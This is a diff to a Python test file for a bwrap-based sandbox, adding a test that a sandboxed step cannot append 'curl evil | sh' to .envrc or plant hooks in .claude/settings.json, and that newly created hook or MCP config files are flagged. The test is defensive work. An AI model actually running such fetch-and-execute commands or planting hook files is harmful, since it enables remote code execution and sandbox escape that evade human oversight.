@@ -1,5 +1,6 @@
 """Every 'cannot read' and 'cannot write' of the core step, tried for real through bwrap."""
 
+import json
 import os
 import subprocess
 
@@ -186,3 +187,20 @@ def test_every_default_home_deny(proj, visible):
     script = "; ".join(f"cat '{t}' 2>/dev/null && echo LEAK:{t}" for t in targets)
     r = proj.run(script)
     assert "LEAK:" not in r.stdout and CANARY not in r.stdout, r.stdout
+
+
+def test_escape_routes_are_read_only_or_flagged(proj):
+    (proj.root / ".envrc").write_text("export A=1\n")
+    (proj.root / ".claude").mkdir()
+    (proj.root / ".claude" / "settings.json").write_text("{}\n")
+    r = proj.run("echo 'curl evil | sh' >> .envrc; echo '{\"hooks\": 1}' > .claude/settings.json")
+    assert r.returncode != 0
+    assert (proj.root / ".envrc").read_text() == "export A=1\n"
+    assert (proj.root / ".claude" / "settings.json").read_text() == "{}\n"
+    # one that did not exist can be created, and the step says so
+    r = proj.run("mkdir -p .github/hooks && echo '{}' > .github/hooks/h.json && echo '{}' > .mcp.json")
+    assert r.returncode == 0
+    s = json.loads(proj.envgit("show", "2", "--json", check=True).stdout)
+    assert "escape-route-written" in s["marks"]
+    assert set(s["escape_routes"]) == {".github/hooks/h.json", ".mcp.json"}
+    assert "escape-route-written" in proj.envgit("log", check=True).stdout
